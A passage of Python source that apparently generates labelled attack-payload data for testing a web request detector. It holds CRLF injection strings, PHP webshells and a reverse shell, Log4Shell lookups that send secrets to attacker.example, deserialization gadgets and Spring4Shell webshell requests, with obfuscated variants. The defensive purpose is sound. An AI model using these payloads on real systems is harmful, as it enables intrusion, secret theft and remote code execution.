    ("%0dSet-Cookie:crlf=injection", "bare %0d"),
    ("%250d%250aSet-Cookie:%20x=1", "double-encoded CRLF"),
    ("%25250d%25250aSet-Cookie:%20x=1", "triple-encoded CRLF"),
    ("%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "Unicode U+560A/U+560D (Node.js latin1 truncation)"),
    ("%0d%0a%09Set-Cookie:%20x=1", "CRLF + tab (obsolete line folding)"),
    ("%23%0d%0aSet-Cookie:x=1", "'#' then CRLF"),
    ("%3f%0d%0aLocation:%20https://evil.example", "'?' then CRLF"),
    ("%u000d%u000aSet-Cookie:%20x=1", "IIS %u encoding (non-standard)"),
    ("%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "response splitting, encoded"),
    ("en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK", "response splitting, encoded"),
    ("%0d%0aLocation:%20https://evil.example", "%0d%0a Location"),
    ("/%0d%0aX-Forwarded-Host:%20evil.example", "%0d%0a after slash"),
    ("%0D%0aSet-Cookie:%20a=b", "mixed-case hex"),
    ("%5cr%5cnSet-Cookie:%20a=b", "encoded literal \\r\\n"),
    ("%c4%8d%c4%8aSet-Cookie:%20a=b", "U+010D/U+010A (lower byte CR/LF)"),
]

_CR_SRC = ["\r\nSet-Cookie: admin=true", "/home\r\nLocation: https://evil.example",
           "en\r\nSet-Cookie: session=attacker", "\r\n\r\n<script>alert(1)</script>",
           "x\r\nX-Injected: 1"]

CRLF_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _CR_SRC[0:3]),
    ("double URL-encoding", enc_double, "raw", _CR_SRC[1:5]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _CR_SRC[2:4]),
]

# ----- PHP code injection --------------------------------------------------
# Code for an eval()/include()/unserialize() sink: PHP open and short tags, dangerous functions
# called, stream wrappers that carry or execute code, serialized objects, uploaded webshells.


def php_str(s):
    return 's:%d:"%s";' % (len(s.encode("utf-8")), s)


def php_obj(cls, props):
    """props: [(name, serialized value)]; protected names as '\\0*\\0name'."""
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(php_str(k) + v for k, v in props))


def php_arr(items):
    return "a:%d:{%s}" % (len(items), "".join(k + v for k, v in items))


_PHP_B64_SHELL = base64.b64encode(b'<?php system($_GET["c"]);?>').decode()
_PHP_B64_CALL = base64.b64encode(b'system("id");').decode()
_PHP_HEX_CALL = b'system("id");'.hex()
_PHP_ROT13_CALL = codecs.encode('system("id");', "rot13")
_PHP_AO_INNER = 'x:i:0;a:0:{};m:a:1:{s:1:"x";s:2:"id";}'
_PHP_SER_LOGGER = php_obj("LogWriter", [("file", php_str("/var/www/html/shell.php")),
                                         ("data", php_str("<?php system($_GET['c']); ?>"))])
_PHP_SER_PENDING = php_obj("Illuminate\\Broadcasting\\PendingBroadcast", [
    ("\x00*\x00events", php_obj("Illuminate\\Bus\\Dispatcher", [("\x00*\x00queueResolver", php_str("system"))])),
    ("\x00*\x00event", php_str("id"))])
_PHP_SER_GUZZLE = php_obj("GuzzleHttp\\Cookie\\FileCookieJar", [
    ("\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename", php_str("/var/www/html/x.php")),
    ("\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies", "b:1;")])

PHP_GROUPS = [
    ("PHP open tag with code", [
        "<?php system($_GET['cmd']); ?>", "<?php echo shell_exec('id'); ?>", '<?php passthru("cat /etc/passwd");?>',
        "<?php @eval($_POST['x']);?>", '<?php exec("wget http://attacker.example/s -O /tmp/s"); ?>',
        "<?php file_put_contents('s.php', base64_decode($_REQUEST['d'])); ?>", "<?php phpinfo(); ?>",
        "<?php\nsystem('uname -a');\n?>", "<?php $c=$_GET[0];echo `$c`;?>", "<?php include($_GET['f']); ?>",
        "<?php fwrite(fopen('x.php','w'),'<?php eval($_POST[1]);?>');?>",
        '<?php $s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");?>', '<?php echo md5("qv_probe"); ?>',
        "<?php print(7*7);?>", "<?php echo file_get_contents('/etc/passwd'); ?>", "<?php var_dump(scandir('/')); ?>",
        "<?php header('X-Probe: '.php_uname()); ?>", "<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>",
        "<?php $f=$_FILES['f'];move_uploaded_file($f['tmp_name'],$f['name']);?>", "<?php popen('id','r'); ?>",
    ]),
    ("short echo tag / short open tag", [
        "<?=system($_GET[c])?>", "<?=`id`?>", "<?= shell_exec($_GET['x']) ?>", "<? system('id'); ?>", "<?=passthru('ls -la')?>",
        '<script language="php">system("id");</script>', "<?=$_GET[0]($_GET[1])?>", "<? echo `whoami`; ?>",
        "<?=phpinfo()?>", "<?=eval($_POST[0])?>", "<?=include$_GET[1]?>",
    ]),
    ("dangerous function call", [
        "system('id')", 'system("cat /etc/passwd");', "exec('whoami')", "passthru('id');", "shell_exec('uname -a')",
        "popen('id','r')", "proc_open('id',[],$p)", "pcntl_exec('/bin/sh')", "eval($_POST['c'])", "assert($_GET['a'])",
        "assert(\"system('id')\")", "eval(base64_decode('%s'));" % _PHP_B64_CALL, "eval(gzinflate(base64_decode('%s')));"
        % base64.b64encode(zlib.compress(b'system("id");')[2:-4]).decode(),
        "eval(str_rot13('%s'));" % _PHP_ROT13_CALL, "eval(hex2bin('%s'));" % _PHP_HEX_CALL, "call_user_func('system','id')",
        "call_user_func_array('system',array('id'))", "array_map('system',array('id'))", "create_function('','system(\"id\");')",
        "preg_replace('/.*/e','system(\"id\")','x')", "{${system('id')}}", "1;phpinfo();", "'.system('id').'", "\".shell_exec('id').\"",
        "');system('id');//", "file_get_contents('/etc/passwd')", "highlight_file('index.php')", "show_source(__FILE__)",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')", "$a='sys'.'tem';$a('id');",
        "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id')", "usort($_GET,'system');", "register_shutdown_function('system','id');",
        "array_filter(['id'],'system')", "${@eval($_POST[1])}", "mail('a@b.c','x','y','','-X/var/www/html/s.php')",
        "include('php://input');", "require_once 'data://text/plain;base64,%s';" % _PHP_B64_SHELL, "ini_set('allow_url_include','1');",
        "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');", "unserialize($_COOKIE['data'])", "ob_start('system');echo 'id';ob_end_flush();",
        "phpinfo()", "die(`id`)", "print_r(getenv())",
    ]),
    ("stream wrapper", [
        "php://input", "php://filter/convert.base64-encode/resource=index.php", "php://filter/read=string.rot13/resource=config.php",
        "php://filter/convert.iconv.utf-8.utf-16/resource=db.php", "PHP://filter/convert.base64-encode/resource=index",
        "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
        "php://filter/string.toupper|string.rot13|string.tolower/resource=wp-config.php", "php://fd/0",
        "data://text/plain;base64," + _PHP_B64_SHELL, "data:text/plain,<?php phpinfo();?>", "data://text/plain,<?php system('id');?>",
        "data:;base64," + _PHP_B64_SHELL, "expect://id", "expect://ls -la", "expect://whoami", "phar:///var/www/uploads/avatar.jpg/x.php",
        "phar://./uploads/evil.gif/shell", "phar://uploads/1234.jpg", "zip://uploads/avatar.zip#shell.php",
        "zip:///var/www/html/uploads/x.zip#s.php", "compress.zlib://data:,<?php system('id');?>", "glob:///var/www/html/*.php",
        "php://filter/resource=http://attacker.example/s.txt", "pHp://InPuT", "php://stdin",
    ]),
    ("serialized PHP object", [
        php_obj("stdClass", [("cmd", php_str("id"))]), php_obj("stdClass", [("user", php_str("admin")), ("admin", "b:1;")]),
        _PHP_SER_LOGGER, _PHP_SER_PENDING, _PHP_SER_GUZZLE,
        php_arr([("i:0;", php_str("foo")), ("i:1;", php_obj("Example", [("path", php_str("/etc/passwd"))]))]),
        'O:+14:"Example\\Logger":1:{s:4:"file";s:10:"/tmp/x.php";}',
        'C:11:"ArrayObject":%d:{%s}' % (len(_PHP_AO_INNER), _PHP_AO_INNER),
        'O:8:"stdClass":1:{S:3:"\\63md";s:2:"id";}',
        php_obj("Monolog\\Handler\\SyslogUdpHandler", [("\x00*\x00socket", php_obj("Monolog\\Handler\\BufferHandler", [
            ("\x00*\x00handler", "N;"), ("\x00*\x00buffer", php_arr([("i:0;", php_arr([("i:0;", php_str("id"))]))]))]))]),
        'a:1:{s:4:"user";O:4:"User":2:{s:4:"name";s:5:"admin";s:7:"isAdmin";b:1;}}',
        php_obj("Swift_ByteStream_TemporaryFileByteStream", [("\x00Swift_ByteStream_FileByteStream\x00_path", php_str("/var/www/html/s.php"))]),
    ]),
]

PHP_EVASIONS = [
    ("<?php /**/system/**/('id');?>", "comments inside call"),
    ('<?PHP SyStEm("id");?>', "mixed-case tag and function"),
    ("<?php system ( 'id' ) ;?>", "spaces inside call"),
    ("<?php\tsystem('id');?>", "tab after open tag"),
    ('<?php $f="sys"."tem";$f("id");?>', "concatenated function name"),
    ("<?php echo `id`;?>", "backtick operator"),
    ("<?php ('sy'.'stem')('id');?>", "concatenation called directly (PHP 7)"),
    ("<?php \\system('id');?>", "namespace-qualified call"),
    ("<?php @$_GET[0]($_GET[1]);?>", "variable function from input"),
    ("<?php eval(hex2bin('%s'));?>" % _PHP_HEX_CALL, "hex2bin-decoded code"),
    ("<?php eval(str_rot13('%s'));?>" % _PHP_ROT13_CALL, "rot13-decoded code"),
    ("\uff1c?php system('id'); ?\uff1e", "full-width brackets (NFKC)"),
    ("&lt;?php system('id'); ?&gt;", "HTML-entity-encoded tag"),
    ("<?php\nsystem\n(\n'id'\n);", "newlines, no closing tag"),
    ("<?php /*x*/ eval /*y*/ ($_REQUEST /*z*/ ['x']);", "comments between tokens"),
    ("<?php $_=\"{\";$_=($_^\"<\").($_^\">;\").($_^\"/\");${$_}[_](${$_}[__]);", "XOR-built $_GET (no letters)"),
    ("<?php $x=strrev('metsys');$x('id');", "strrev-built name"),
    ("SyStEm('id')", "mixed-case function (names are case-insensitive)"),
    ("system\t('id')", "tab before parenthesis"),
    ("system/**/('id')", "comment before parenthesis"),
    ("PhP://FiLtEr/convert.base64-encode/resource=index.php", "mixed-case wrapper"),
    ("php://filter/convert.base64-encode/resource=index.php\x00", "wrapper with trailing NUL"),
]

PHP_RAW = [
    ("%3C%3Fphp%20system(%27id%27)%3B%3F%3E", "URL-encoded open tag"),
    ("%3C?php%20phpinfo();?%3E", "partially encoded open tag"),
    ("%3C%3F%3D%60id%60%3F%3E", "URL-encoded short echo tag"),
    ("php%3A%2F%2Finput", "encoded php://input"),
    ("php://filter/convert.base64-encode/resource%3Dindex.php", "encoded '=' in filter"),
    ("php%3A//filter/read%3Dstring.rot13/resource%3Dconfig.php", "partially encoded filter"),
    ("data:%2F%2Ftext%2Fplain%3Bbase64%2C" + _PHP_B64_SHELL.replace("=", "%3D").replace("+", "%2B").replace("/", "%2F"), "encoded data:// wrapper"),
    ("%253C%253Fphp%2520system(id)%253B%253F%253E", "double URL-encoding"),
    ("expect%3A%2F%2Fid", "encoded expect://"),
    ("zip://uploads/x.zip%23shell.php", "zip:// with %23 fragment"),
    ("phar%3A%2F%2F.%2Fuploads%2Favatar.jpg", "encoded phar://"),
    ("O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3Bs%3A2%3A%22id%22%3B%7D", "URL-encoded serialized object"),
    ("O:8:%22stdClass%22:1:%7Bs:3:%22cmd%22;s:2:%22id%22;%7D", "partially encoded serialized object"),
    ("system%28%27id%27%29", "encoded call"),
    ("%3C%3Fphp%0Asystem(%22id%22)%3B", "%0A after open tag"),
    ("%3C%3Fphp%09echo%09%60id%60%3B", "%09 tabs"),
    ("%3c%3fphp+system(%24_GET%5bc%5d)%3b+%3f%3e", "lowercase hex, '+' spaces"),
]

_PH_SRC = ["<?php system($_GET['cmd']); ?>", "<?=`id`?>", "php://input",
           "php://filter/convert.base64-encode/resource=index.php", "system('id')",
           "data://text/plain;base64," + _PHP_B64_SHELL, "eval($_POST['c'])", "expect://id",
           php_obj("stdClass", [("cmd", php_str("id"))]), "<?php phpinfo(); ?>"]

PHP_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _PH_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _PH_SRC[3:7]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _PH_SRC[6:9]),
    ("mixed case", mixcase, "plain", [_PH_SRC[0], _PH_SRC[3], _PH_SRC[9]]),
    ("named HTML entities", html_named, "plain", _PH_SRC[0:2]),
    ("JSON \\u escapes", identity, "json:<?$", _PH_SRC[0:3] + _PH_SRC[8:10]),
    ("XML character references", identity, "xml:<?", [_PH_SRC[0], _PH_SRC[1], _PH_SRC[9]]),
]

# Serialized objects base64-encoded, as apps keep them in cookies and hidden fields.
PHP_GROUPS.append(("base64 of serialized PHP object", [
    base64.b64encode(_PHP_SER_LOGGER.encode()).decode(),
    base64.b64encode(php_obj("stdClass", [("cmd", php_str("id"))]).encode()).decode(),
]))

# ----- Java: Log4Shell, deserialization, OGNL/SpEL/EL, Spring4Shell --------


def java_ser(classname, uid=0x1, fields=()):
    """A minimal Java serialization stream: one object of `classname` (TC_OBJECT, TC_CLASSDESC,
    primitive int fields, TC_ENDBLOCKDATA, no superclass) with zero values."""
    name = classname.encode()
    out = b"\xac\xed\x00\x05" + b"\x73\x72" + struct.pack(">H", len(name)) + name + struct.pack(">Q", uid)
    out += b"\x02" + struct.pack(">H", len(fields))
    for f in fields:
        out += b"I" + struct.pack(">H", len(f)) + f.encode()
    out += b"\x78\x70" + b"\x00\x00\x00\x00" * len(fields)
    return out


_JSER = [java_ser("org.apache.commons.collections.functors.InvokerTransformer", 0x7c9e3d8e3bd1c6b7, ["iParamTypes"]),
         java_ser("java.util.PriorityQueue", 0x94da30b4fb3f82b1, ["size"]),
         java_ser("sun.reflect.annotation.AnnotationInvocationHandler", 0x55caf50f15cb7ea5),
         java_ser("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 0x0957f96e6b61e4e9, ["_indentNumber"]),
         java_ser("org.springframework.beans.factory.ObjectFactory", 0x1),
         java_ser("java.util.HashMap", 0x0507dac1c31660d1, ["threshold"]),
         java_ser("org.apache.commons.collections4.comparators.TransformingComparator", 0x2f97f3b9b8f4a1c3)]
_JSER_B64 = [base64.b64encode(b).decode() for b in _JSER]
_JSER_HEX = [b.hex() for b in _JSER]


def gzip_fixed(data):
    """gzip with a fixed header (no mtime, no name, OS=unknown): stable across Python versions."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = co.compress(data) + co.flush()
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", zlib.crc32(data), len(data))


_JSER_GZ = base64.b64encode(gzip_fixed(_JSER[0])).decode()
_JB64_LOOKUP = base64.b64encode(b"${jndi:ldap://attacker.example/a}").decode()

JAVA_GROUPS = [
    ("JNDI lookup (Log4Shell)", [
        "${jndi:ldap://attacker.example/a}", "${jndi:ldap://attacker.example:1389/a}", "${jndi:ldaps://attacker.example/x}",
        "${jndi:rmi://10.0.0.5:1099/Exploit}", "${jndi:dns://attacker.example/q}", "${jndi:iiop://attacker.example/x}",
        "${jndi:corba://attacker.example/x}", "${jndi:nis://attacker.example/x}", "${jndi:nds://attacker.example/x}",
        "${jndi:http://attacker.example/a}", "${jndi:ldap://${env:USER}.attacker.example/a}",
        "${jndi:ldap://${sys:java.version}.attacker.example/}", "${jndi:dns://${hostName}.attacker.example}",
        "${jndi:ldap://127.0.0.1#attacker.example:1389/a}", "${jndi:ldap://attacker.example/Basic/Command/Base64/aWQ=}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}", "${jndi:rmi://attacker.example:1099/${java:version}}",
        "x${jndi:ldap://attacker.example/x}y", "Mozilla/5.0 ${jndi:ldap://attacker.example/ua}",
        "${jndi:ldap://[::ffff:198.51.100.7]:1389/a}", "${jndi:ldap://198.51.100.7/o=tomcat}",
    ]),
    ("Log4Shell obfuscation", [
        "${${lower:j}ndi:${lower:l}dap://attacker.example/x}", "${${lower:j}ndi:ldap://attacker.example/a}",
        "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}",
        "${${lower:jnd}${lower:i}:${lower:ldap}://attacker.example/x}", "${j${k8s:k5:-ND}i:ldap://attacker.example/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}", "${${sys:foo:-j}ndi:ldap://attacker.example/a}",
        "${${main:x:-j}ndi:ldap://attacker.example/a}", "${j${::-n}di:dns://attacker.example/}",
        "${jn${lower:d}i:l${lower:d}ap://attacker.example/a}", "${base64:%s}" % _JB64_LOOKUP,
        "${${::-j}ndi:rmi://attacker.example/a}", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://attacker.example/a}",
        "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}", "${${upper:${::-j}}ndi:ldap://attacker.example/a}",
        "${jndi:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}", "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//attacker.example/a}",
        "${jnd${123%25ff:-i}:ldap://attacker.example/a}",
        "${${ctx:x:-j}ndi:ldap://attacker.example/a}", "${${event:x:-j}ndi:ldap://attacker.example/a}",
    ]),
    ("Java serialized object", _JSER_B64 + _JSER_HEX[:4] + [_JSER_HEX[4].upper(), _JSER_GZ]),
    ("OGNL (Struts)", [
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
        "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).redirectErrorStream(true).start()}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "${@java.lang.Runtime@getRuntime().exec(\"id\")}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.System@getProperty('user.dir'))}",
        "${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('whoami'))}",
        "%{3*3}", "%{@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
        "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
    ]),
    ("SpEL / EL / Thymeleaf expression", [
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
        "${T(java.lang.System).getenv()}",
        "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(new String[]{'id'}).getInputStream())}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
        "${pageContext.request.getSession().getServletContext()}", "#{request.getClass().getClassLoader()}",
        "${applicationScope}", "${facesContext.getExternalContext().getRequestMap()}",
        "T(java.lang.Runtime).getRuntime().exec(\"id\")", "${new java.lang.ProcessBuilder('id').start()}",
        "#{T(java.lang.Thread).sleep(5000)}", "${''.class.forName('java.lang.Runtime').getRuntime().exec('id')}",
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__",
        "#{session.setAttribute('x',''.getClass().forName('java.lang.Runtime'))}",
        "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')}", "${\"\".getClass().forName(\"java.lang.Runtime\")}",
    ]),
    ("Runtime / ProcessBuilder / script engine", [
        "java.lang.Runtime.getRuntime().exec(\"cat /etc/passwd\")", "Runtime.getRuntime().exec(\"id\")",
        "new ProcessBuilder(\"bash\",\"-c\",\"id\").start()", "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
        "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
        "\"id\".execute().text", "java.lang.ProcessBuilder(['sh','-c','id']).start()", "@java.lang.Runtime@getRuntime().exec('id')",
        "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'", "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception {Runtime.getRuntime().exec(c);return c;}'\\;CALL EXEC('id')",
        "jdbc:mysql://attacker.example:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "org.codehaus.groovy.runtime.ProcessGroovyMethods.execute('id')", "Thread.sleep(5000)",
    ]),
    ("Spring4Shell / class.module.classLoader (as a value)", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "class.classLoader.URLs[0]",
        "class['module']['classLoader']['resources']", "Class.Module.ClassLoader.DefaultAssertionStatus",
    ]),
]

JAVA_EVASIONS = [
    ("${JnDi:LdAp://attacker.example/a}", "mixed case jndi (lookups are case-insensitive)"),
    ("${jndi:LDAP://attacker.example/a}", "upper-case scheme"),
    ("\uff04\uff5bjndi:ldap://attacker.example/a\uff5d", "full-width $ and braces (NFKC)"),
    ("${jndi:ldap://attacker.example/a}\n", "trailing newline"),
    ("%24%7Bjndi:ldap://attacker.example/a%7D", "literal percent-encoding inside value (double-decoding sink)"),
    ("${::-$}{jndi:ldap://attacker.example/a}", "default-value lookup builds the ${"),
    ("${T (java.lang.Runtime).getRuntime().exec('id')}", "space after T"),
    ("${T(java.lang.Runtime)\n.getRuntime().exec('id')}", "newline inside SpEL"),
    ("%{(#x=@java.lang.Runtime@getRuntime()).(#x.exec('id'))}", "OGNL variable assignment"),
]

JAVA_RAW = [
    ("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "URL-encoded"),
    ("%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D", "double URL-encoding"),
    ("$%7Bjndi:ldap://attacker.example/a%7D", "braces encoded"),
    ("%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "URL-encoded obfuscation"),
    ("%24%7Bjndi%3Adns%3A%2F%2F%24%7BhostName%7D.attacker.example%7D", "URL-encoded dns exfil"),
    ("%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D", "URL-encoded SpEL"),
    ("%25%7B(%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue).(%40java.lang.Runtime%40getRuntime().exec(%27id%27))%7D", "URL-encoded OGNL"),
    (pct(_JSER_B64[1]), "base64 serialized object, percent-encoded"),
    ("%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", "URL-encoded ${::-j} form"),
    ("%24%u007Bjndi:ldap://attacker.example/a}", "IIS %u007B (non-standard)"),
]

_JV_SRC = ["${jndi:ldap://attacker.example/a}", "${${lower:j}ndi:ldap://attacker.example/a}",
           "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
           "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:dns://attacker.example/q}",
           "${jndi:rmi://10.0.0.5:1099/Exploit}", "#{T(java.lang.Runtime).getRuntime().exec('calc')}"]

JAVA_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _JV_SRC[0:3]),
    ("double URL-encoding", enc_double, "raw", _JV_SRC[2:5]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _JV_SRC[4:7]),
    ("JSON \\u escapes of $ and braces", identity, "json:${}", _JV_SRC[0:5]),
    ("XML character references of $ and braces", identity, "xml:${", _JV_SRC[0:4]),
]

# Log4j lookups without jndi only leak values, and the same ${env:NAME} syntax is ordinary in
# editor/CI settings (a benign grey case); so these are attacks only where no app expects a
# placeholder: headers, the User-Agent and the Referer (see README label policy).
JAVA_HEADER_ONLY = [
    ("${env:AWS_SECRET_ACCESS_KEY}", "Log4j lookup without jndi (recon), header only"),
    ("${sys:java.version}", "Log4j lookup without jndi (recon), header only"),
    ("${env:USER}-${hostName}", "Log4j lookups without jndi (recon), header only"),
    ("${java:runtime}", "Log4j lookup without jndi (recon), header only"),
    ("${ctx:loginId}${sys:user.home}", "Log4j lookups without jndi (recon), header only"),
]

# JSON values that are Java deserialization gadgets (fastjson autoType, Jackson polymorphic typing).
JAVA_JSON_OBJ = [
    ({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://attacker.example:1389/Exploit", "autoCommit": True},
     "fastjson autoType JdbcRowSetImpl"),
    ({"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
      "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://attacker.example:1099/x", "autoCommit": True}},
     "fastjson 1.2.47 class-cache bypass"),
    ({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://attacker.example/a", "autoCommit": True},
     "fastjson L...; descriptor bypass"),
    (["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://attacker.example:1389/a"}],
     "Jackson polymorphic typing, logback JNDI"),
    (["org.springframework.context.support.ClassPathXmlApplicationContext", "http://attacker.example/spel.xml"],
     "Jackson polymorphic typing, Spring XML context"),
    ({"@type": "org.apache.shiro.jndi.JndiObjectFactory", "resourceName": "ldap://attacker.example/a"}, "fastjson Shiro JNDI"),
    ({"@class": "com.zaxxer.hikari.HikariConfig", "metricRegistry": "ldap://attacker.example:1389/a"}, "Jackson @class HikariConfig JNDI"),
    ({"@type": "java.net.Inet4Address", "val": "dnslog.attacker.example"}, "fastjson DNS probe"),
]

# Whole query strings / form bodies: Spring4Shell and older classLoader binding.
JAVA_QS = [
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
     "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
     "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
     "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
     "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "Spring4Shell access-log webshell"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "Spring4Shell single field"),
    ("class.module.classLoader.DefaultAssertionStatus=nonsense", "Spring4Shell probe (400 when vulnerable)"),
    ("class.classLoader.URLs%5B0%5D=jar:http://attacker.example/x.jar!/", "classLoader.URLs (CVE-2010-1622 style)"),
    ("name=x&class%5B%27module%27%5D%5B%27classLoader%27%5D%5B%27resources%27%5D%5B%27context%27%5D%5B%27parent%27%5D%5B%27pipeline%27%5D%5B%27first%27%5D%5B%27pattern%27%5D=x",
     "Spring4Shell bracket notation"),
    ("class.module.classLoader.resources.context.configFile=http://attacker.example/x&class.module.classLoader.resources.context.configFile.content.aaa=x",
     "Spring4Shell configFile variant"),
    ("user.name=bob&class.protectionDomain.codeSource.location=x", "class.protectionDomain binding probe"),
    ("Class.Module.ClassLoader.Resources.Context.Parent.Pipeline.First.Pattern=x", "Spring4Shell mixed case"),
    ("redirect:%24%7B%23a%3Dnew%20java.lang.ProcessBuilder(%27id%27).start()%7D=1", "Struts redirect: OGNL in a parameter name"),
    ("action:%25%7B3*3%7D=1", "Struts action: OGNL in a parameter name"),
]

# Struts2 S2-045: OGNL in the Content-Type header.
JAVA_CTYPE = [
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
     "((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id')"
     ".(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.start())}", "OGNL in Content-Type (S2-045)"),
    ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Probe',3*3)}.multipart/form-data",
     "OGNL in Content-Type (S2-045 probe)"),
    ("multipart/form-data; boundary=${jndi:ldap://attacker.example/ct}", "JNDI lookup in Content-Type"),
]

# Whole XML documents that deserialize into Java objects.
JAVA_XML_DOCS = [
    ('<?xml version="1.0" encoding="UTF-8"?>\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n'
     '  <object class="java.lang.ProcessBuilder">\n    <array class="java.lang.String" length="3">\n'
     '      <void index="0"><string>/bin/bash</string></void>\n      <void index="1"><string>-c</string></void>\n'
     '      <void index="2"><string>id</string></void>\n    </array>\n    <void method="start"/>\n  </object>\n</java>\n',
